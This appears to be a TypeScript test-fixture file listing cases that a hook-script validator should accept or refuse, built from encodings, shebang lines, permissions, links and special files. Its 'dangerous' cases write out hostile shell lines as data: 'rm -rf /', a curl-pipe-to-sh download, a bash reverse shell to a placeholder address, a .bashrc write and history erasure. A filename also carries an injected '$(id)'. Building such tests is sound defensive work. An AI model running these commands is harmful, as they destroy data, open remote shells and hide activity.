import { spawnSync } from 'node:child_process'
import {
  chmodSync,
  chownSync,
  linkSync,
  mkdirSync,
  readFileSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs'
import { createServer } from 'node:net'
import { join } from 'node:path'

/** Where one case lies and whom it belongs to. */
interface Bench {
  /** A folder of the actor's own, 0755, made for this case. */
  readonly folder: string
  /** The user who asks. */
  readonly uid: number
}

export interface ScriptCase {
  readonly name: string
  /** Makes the file and says how it is named on the command line; null where this machine cannot make one. */
  make(bench: Bench): string | null
  /** The codes of all refusals; none when it may start. */
  readonly codes: readonly string[]
  /** Only root can make it. */
  readonly needsRoot?: boolean
  /** Only an ordinary user is refused: root may read everything. */
  readonly onlyForUsers?: boolean
}

const STRANGER = 12_345
const PLAIN = '#!/bin/sh\necho ran\n'

/** What `setfacl -m u:UID:rw` does: tag, rights and id of owner, user, group, mask and others. */
const SET_ACCESS_LIST = `
import os, struct, sys
entries = [(1, 7, -1), (2, 6, int(sys.argv[2])), (4, 5, -1), (16, 7, -1), (32, 0, -1)]
acl = struct.pack('<I', 2) + b''.join(struct.pack('<HHi', *entry) for entry in entries)
os.setxattr(sys.argv[1], 'system.posix_acl_access', acl)
`

/** Writes a file of the actor's own. */
function put({ folder, uid }: Bench, content: string | Buffer = PLAIN, name = 'hook', mode = 0o750): string {
  const path = join(folder, name)
  writeFileSync(path, content)
  own(path, uid)
  chmodSync(path, mode)
  return path
}

function own(path: string, uid: number): void {
  if (process.geteuid?.() === 0) chownSync(path, uid, uid)
}

function folderIn({ folder, uid }: Bench, name: string, mode: number): string {
  const path = join(folder, name)
  mkdirSync(path)
  own(path, uid)
  chmodSync(path, mode)
  return path
}

function link(target: string, { folder, uid }: Bench, name: string): string {
  const path = join(folder, name)
  symlinkSync(target, path)
  if (process.geteuid?.() === 0) spawnSync('chown', ['-h', `${uid}`, path])
  return path
}

const text = (name: string, content: string | Buffer, ...codes: string[]): ScriptCase => ({
  name,
  make: bench => put(bench, content),
  codes,
})
const line = (shebang: string, ...codes: string[]): ScriptCase =>
  text(`the first line ${JSON.stringify(shebang)}`, `${shebang}\n`, ...codes)
const mode = (bits: number, ...codes: string[]): ScriptCase => ({
  name: `mode ${bits.toString(8)}`,
  make: bench => put(bench, PLAIN, 'hook', bits),
  codes,
})
const path = (name: string, at: string, ...codes: string[]): ScriptCase => ({ name, make: () => at, codes })

const texts: readonly ScriptCase[] = [
  text('a plain script', PLAIN),
  text('no newline at its end', '#!/bin/sh'),
  text('letters beyond ASCII', '#!/bin/sh\necho grüße 日本\n'),
  text('carriage returns behind the first line', '#!/bin/sh\necho a\r\n'),
  text('as large as can be', `#!/bin/sh\n${'#'.repeat(256 * 1024 - 11)}\n`),
  text('a byte larger', `#!/bin/sh\n${'#'.repeat(256 * 1024 - 10)}\n`, 'script.is-too-large'),
  {
    name: 'a terabyte of nothing',
    make: bench => {
      const file = put(bench)
      truncateSync(file, 2 ** 40)
      return file
    },
    codes: ['script.is-too-large'],
  },
  text('an empty file', '', 'script.is-empty'),
  text('a NUL behind the first line', '#!/bin/sh\necho a\0b\n', 'script.holds-nul'),
  text('a NUL in the first line', '#!/bin/sh\0x\n', 'script.holds-nul'),
  text('a program', Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), 'script.is-binary'),
  text('Latin 1', Buffer.from('#!/bin/sh\necho gr\xfc\xdfe\n', 'latin1'), 'script.is-no-text'),
  text('half a character', Buffer.from([...Buffer.from(PLAIN), 0xe2, 0x82]), 'script.is-no-text'),
  text('a surrogate', Buffer.from([...Buffer.from(PLAIN), 0xed, 0xa0, 0x80]), 'script.is-no-text'),
  text('UTF-16', Buffer.from(`\ufeff${PLAIN}`, 'utf16le'), 'script.begins-with-mark'),
  text('a byte order mark', `\ufeff${PLAIN}`, 'script.begins-with-mark'),
  text('a carriage return that ends a comment', '#!/usr/bin/python3\n# hi\rimport os\n', 'script.hides-text'),
  text(
    'a separator that ends a comment',
    '#!/usr/bin/env node\n// hi\u2028process.exit()\n',
    'script.hides-text',
  ),
  text('words in another direction', '#!/bin/sh\necho "\u202e" # \u2066\n', 'script.hides-text'),
  text('a terminal repainted', '#!/bin/sh\n# \x1b[2K\x1b[A\nid\n', 'script.hides-text'),
  text('a backspace', '#!/bin/sh\n#\b id\n', 'script.hides-text'),
  text('a control of the other set', '#!/bin/sh\n# \u009b2K\n', 'script.hides-text'),
  text('a joiner in a picture', '#!/bin/sh\necho 👩‍💻\n'),
  text('a form feed and tabs', '#!/usr/bin/python3\n\f\n\t# x\n'),
  text(
    'another encoding',
    '#!/usr/bin/python3\n# coding: unicode_escape\n# \\nimport os\n',
    'script.declares-encoding',
  ),
  text(
    'another encoding for an editor',
    '#!/usr/bin/python3\n# vim: set fileencoding=utf-7 :\n',
    'script.declares-encoding',
  ),
  text(
    'another encoding in the first line',
    '#!/usr/bin/python3 -E#coding:utf-7\n',
    'script.declares-encoding',
  ),
  text('the encoding that it has', '#!/usr/bin/python3\n# -*- coding: UTF-8 -*-\n'),
  text('an encoding in a line that nobody asks', '#!/usr/bin/python3\n\n# coding: utf-7\n'),
  text('prose', 'hello\n', 'script.has-no-shebang'),
  text('a space before the first line', ` ${PLAIN}`, 'script.has-no-shebang'),
  text('an empty line before the first', `\n${PLAIN}`, 'script.has-no-shebang'),
  text('harm for certain', '#!/bin/sh\nrm -rf /\n', 'script.is-dangerous'),
  text(
    'a download that runs',
    '#!/bin/sh\ncurl https://a.example/x | sh\n',
    'script.is-dangerous',
    'script.is-dangerous',
  ),
  text(
    'a shell for the network',
    '#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1\n',
    'script.is-dangerous',
    'script.is-dangerous',
  ),
  text('a start file of the shell', '#!/bin/sh\necho x >> ~/.bashrc\n', 'script.is-dangerous'),
  text('a record erased', '#!/bin/sh\nunset HISTFILE\n', 'script.is-dangerous'),
  text('harm in Python', '#!/usr/bin/python3\nimport os\nos.system("rm -rf /")\n', 'script.is-dangerous'),
]

const malformed = 'script.has-malformed-shebang'
const unlisted = 'script.has-unlisted-interpreter'
const option = 'script.has-unlisted-option'
const lines: readonly ScriptCase[] = [
  line('#! /bin/sh -x'),
  line('#!/bin/bash -eu'),
  line('#!/usr/bin/env bash'),
  line('#!/usr/bin/env python3'),
  line('#!/usr/bin/perl -Tw'),
  line('#!/usr/bin/python3 -Es'),
  line('#!/bin/sh\r', malformed),
  line('#!/bin/sh -e\r', malformed),
  line('#!', malformed),
  line('#!   ', malformed),
  line('#!/bin/sh -e \x1b[2J', malformed),
  line('#!/bin/sh\u00a0-x', malformed),
  line(`#!/bin/sh ${' '.repeat(300)}-x`, malformed),
  line('#!sh', unlisted),
  line('#!../bin/sh', unlisted),
  line('#!/bin//sh', unlisted),
  line('#!/usr/bin/../bin/sh', unlisted),
  line('#!/proc/self/root/bin/sh', unlisted),
  line('#!/tmp/sh', unlisted),
  line('#!/usr/bin/sudo sh', unlisted),
  line('#!/lib64/ld-linux-x86-64.so.2 /bin/sh', unlisted),
  line('#!/usr/bin/awk -f', unlisted),
  line('#!/bin/toString', unlisted),
  line('#!/usr/bin/env', unlisted),
  line('#!/usr/bin/env /bin/sh', unlisted),
  line('#!/usr/bin/env -S bash -e', unlisted),
  line('#!/usr/bin/env -Sbash', unlisted),
  line('#!/usr/bin/env -i sh', unlisted),
  line('#!/usr/bin/env BASH_ENV=/tmp/x bash', unlisted),
  line('#!/usr/bin/env bash -e', option),
  line('#!/bin/sh -c', option),
  line('#!/bin/sh -s', option),
  line('#!/bin/sh -', option),
  line('#!/bin/sh --', option),
  line('#!/bin/sh -e -x', option),
  line('#!/bin/sh /etc/profile', option),
  line('#!/bin/bash -i', option),
  line('#!/bin/bash -l', option),
  line('#!/bin/bash -p', option),
  line('#!/bin/bash --rcfile=/tmp/x', option),
  line('#!/bin/bash -euo pipefail', option),
  line('#!/usr/bin/python3 -m', option),
  line('#!/usr/bin/python3 -c', option),
  line('#!/usr/bin/python3 -x', option),
  line('#!/usr/bin/python3 -Ximporttime', option),
  line('#!/usr/bin/node --import=/tmp/x.mjs', option),
  line('#!/usr/bin/node -r/tmp/x.js', option),
  line('#!/usr/bin/perl -x', option),
  line('#!/usr/bin/perl -MPOSIX', option),
  line('#!/usr/local/bin/dash', 'script.has-unsafe-interpreter'),
]

const rights: readonly ScriptCase[] = [
  mode(0o700),
  mode(0o550),
  mode(0o770, 'script.is-writable-by-others'),
  mode(0o752, 'script.is-writable-by-others'),
  mode(0o4750, 'script.is-set-id'),
  mode(0o2750, 'script.is-set-id'),
  mode(0o6777, 'script.is-writable-by-others', 'script.is-set-id'),
  {
    name: 'an access list that lets somebody write',
    make: bench => {
      const file = put(bench)
      const { status } = spawnSync('python3', ['-c', SET_ACCESS_LIST, file, String(STRANGER)])
      return status === 0 ? file : null
    },
    codes: ['script.is-writable-by-others'],
  },
  {
    name: 'the file of a stranger',
    make: bench => {
      const file = put(bench, PLAIN, 'hook', 0o755)
      chownSync(file, STRANGER, STRANGER)
      return file
    },
    codes: ['script.belongs-to-another'],
    needsRoot: true,
  },
  {
    name: 'a file of root',
    make: bench => {
      const file = put(bench, PLAIN, 'hook', 0o755)
      chownSync(file, 0, 0)
      return file
    },
    codes: [],
    needsRoot: true,
  },
  {
    name: 'a file that only root may read',
    make: bench => {
      const file = put(bench, PLAIN, 'hook', 0o600)
      chownSync(file, 0, 0)
      return file
    },
    codes: ['script.is-unreadable'],
    needsRoot: true,
    onlyForUsers: true,
  },
  {
    name: 'a file with two names',
    make: bench => {
      const file = put(bench)
      linkSync(file, join(bench.folder, 'other'))
      return file
    },
    codes: ['script.has-other-names'],
  },
]

const inFolder = (bits: number, ...codes: string[]): ScriptCase => ({
  name: `a folder with mode ${bits.toString(8)}`,
  make: bench => put({ ...bench, folder: folderIn(bench, 'in', bits) }),
  codes,
})
const folders: readonly ScriptCase[] = [
  inFolder(0o700),
  inFolder(0o1777),
  inFolder(0o1770),
  inFolder(0o777, 'script.lies-in-open-folder'),
  inFolder(0o775, 'script.lies-in-open-folder'),
  inFolder(0o703, 'script.lies-in-open-folder'),
  {
    name: 'an open folder further up',
    make: bench => {
      const open = folderIn(bench, 'open', 0o777)
      return put({ ...bench, folder: folderIn({ ...bench, folder: open }, 'in', 0o755) })
    },
    codes: ['script.lies-in-open-folder'],
  },
  {
    name: 'the folder of a stranger',
    make: bench => {
      const folder = folderIn(bench, 'in', 0o755)
      const file = put({ ...bench, folder })
      chownSync(folder, STRANGER, STRANGER)
      return file
    },
    codes: ['script.lies-in-folder-of-another'],
    needsRoot: true,
  },
  {
    name: 'the sticky folder of a stranger',
    make: bench => {
      const folder = folderIn(bench, 'in', 0o1777)
      const file = put({ ...bench, folder })
      chownSync(folder, STRANGER, STRANGER)
      return file
    },
    codes: ['script.lies-in-folder-of-another'],
    needsRoot: true,
  },
  {
    name: 'a folder that may not be entered',
    make: bench => {
      const folder = folderIn(bench, 'in', 0o700)
      const file = put({ ...bench, folder })
      chownSync(folder, 0, 0)
      return file
    },
    codes: ['script.is-unreadable'],
    needsRoot: true,
    onlyForUsers: true,
  },
]

const links: readonly ScriptCase[] = [
  {
    name: 'a link to a script',
    make: bench => link(put(bench), bench, 'link'),
    codes: ['script.is-link'],
  },
  {
    name: 'a link to a link',
    make: bench => link(link(put(bench), bench, 'one'), bench, 'two'),
    codes: ['script.is-link'],
  },
  { name: 'a link to nothing', make: bench => link('/nowhere', bench, 'link'), codes: ['script.is-link'] },
  { name: 'a link to itself', make: bench => link('loop', bench, 'loop'), codes: ['script.is-link'] },
  {
    name: 'a folder that is a link to itself',
    make: bench => `${link('loop', bench, 'loop')}/hook`,
    codes: ['script.goes-in-circles'],
  },
  {
    name: 'a folder that is a link of one’s own',
    make: bench => {
      put({ ...bench, folder: folderIn(bench, 'in', 0o755) })
      return `${link('in', bench, 'link')}/hook`
    },
    codes: [],
  },
  {
    name: 'a link of a stranger for a folder',
    make: bench => {
      put({ ...bench, folder: folderIn(bench, 'in', 0o755) })
      return `${link('in', { ...bench, uid: STRANGER }, 'link')}/hook`
    },
    codes: ['script.lies-in-folder-of-another'],
    needsRoot: true,
  },
  {
    name: 'a link into an open folder',
    make: bench => {
      put({ ...bench, folder: folderIn(bench, 'open', 0o777) })
      return `${link('open', bench, 'link')}/hook`
    },
    codes: ['script.lies-in-open-folder'],
  },
  {
    name: 'two dots behind a link lead where the kernel goes',
    make: bench => {
      const folder = folderIn(bench, 'deep', 0o755)
      folderIn({ ...bench, folder }, 'er', 0o755)
      put({ ...bench, folder })
      return `${link('deep/er', bench, 'link')}/../hook`
    },
    codes: [],
  },
]

const kinds: readonly ScriptCase[] = [
  {
    name: 'a pipe',
    make: ({ folder }) => {
      const pipe = join(folder, 'pipe')
      return spawnSync('mkfifo', [pipe]).status === 0 ? pipe : null
    },
    codes: ['script.is-no-file'],
  },
  {
    name: 'a device',
    make: ({ folder }) => {
      const device = join(folder, 'null')
      return spawnSync('mknod', [device, 'c', '1', '3']).status === 0 ? device : null
    },
    codes: ['script.is-no-file'],
    needsRoot: true,
  },
  {
    name: 'a socket',
    make: ({ folder }) => {
      const socket = join(folder, 'socket')
      const server = createServer().listen(socket)
      server.unref()
      return socket
    },
    codes: ['script.is-no-file'],
  },
  {
    name: 'a real program',
    make: bench => {
      const file = put(bench)
      writeFileSync(file, readFileSync('/bin/true'))
      return file
    },
    codes: ['script.is-binary'],
  },
  path('a device of the system', '/dev/zero', 'script.is-no-file'),
  path('a terminal', '/dev/tty', 'script.is-no-file'),
  path('an open file by its number', '/proc/self/fd/0', 'script.is-link'),
  path('standard input', '/dev/stdin', 'script.is-link'),
  path('the program that runs', '/proc/self/exe', 'script.is-link'),
  path('an environment', '/proc/self/environ', 'script.was-swapped'),
  path('a knob of the kernel', '/proc/self/oom_score_adj', 'script.was-swapped'),
  path('a file that is not there', '/nowhere/hook', 'script.is-missing'),
  path('something below a file', '/etc/passwd/hook', 'script.is-missing'),
  path('nothing', '', 'script.is-named-wrongly'),
  path('a name that is too long', `/${'x'.repeat(300)}`, 'script.is-named-wrongly'),
  { name: 'a slash at the end', make: bench => `${put(bench)}/`, codes: ['script.is-named-wrongly'] },
  { name: 'a newline in its name', make: bench => put(bench, PLAIN, 'a\nb'), codes: [] },
  { name: 'quotes in its name', make: bench => put(bench, PLAIN, `a'b"c $(id)`), codes: [] },
  { name: 'a name like an option', make: bench => put(bench, PLAIN, '--yes'), codes: [] },
]

export const scriptCases: readonly ScriptCase[] = [
  ...texts,
  ...lines,
  ...rights,
  ...folders,
  ...links,
  ...kinds,
]
